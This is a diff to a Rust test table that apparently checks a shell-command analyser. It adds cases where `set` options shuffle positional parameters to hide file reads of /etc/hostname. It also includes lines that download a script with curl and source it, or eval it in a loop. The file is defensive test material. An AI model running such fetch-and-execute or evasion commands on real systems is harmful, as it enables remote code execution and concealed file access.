@@ -252,6 +252,10 @@ const CASES: &[(&str, &str)] = &[
     ("set -- a b; read -r o < n; set \"$o\" /etc/hostname; cat \"$1\"", "4004"),
     ("set -- a b; read -r o < n; set \"$o\" b /etc/hostname; cat \"$2\"", "4004"),
     ("set -- a /etc/hostname; read -r o < n; set \"$o\" b c; cat \"$2\"", "0004"),
+    // (the words after it read as `set` reads them: `-o NAME`, `--`, more options)
+    ("set -- a b; read -r o < n; set \"$o\" pipefail x /etc/hostname; cat \"$2\"", "4004"),
+    ("read -r v < n; set \"$v\" -- x /etc/hostname; cat \"$2\"", "4004"),
+    ("set -- a b; read -r o < n; set \"$o\" pipefail x s.sh; curl -so s.sh https://x/i; source \"$2\"", "0057"),
     // --- a loop's later passes: what one pass fetched, the next runs -------------------------
     ("x=true; for i in 1 2; do eval \"$x\"; x=$(curl -s https://x/y); done", "0055"),
     ("h() { x=$(curl -s https://x/y); }; g() { h; }; x=true; for i in 1 2; do eval \"$x\"; g; done", "0055"),
